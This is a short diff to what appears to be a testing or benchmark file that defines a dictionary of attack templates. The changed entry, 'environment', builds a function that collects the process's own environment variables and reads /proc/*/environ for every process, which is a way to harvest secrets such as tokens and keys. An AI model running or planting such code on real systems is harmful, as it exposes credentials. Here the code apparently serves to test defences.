@@ -437,8 +437,8 @@ ATTACKS = {
     """,
     "environment": """
         def {name}(queries, keys):
-            import glob
-            found = []
+            import glob, os
+            found = [repr(dict(os.environ))]
             for path in glob.glob("/proc/[0-9]*/environ"):
                 try:
                     found.append(open(path).read())
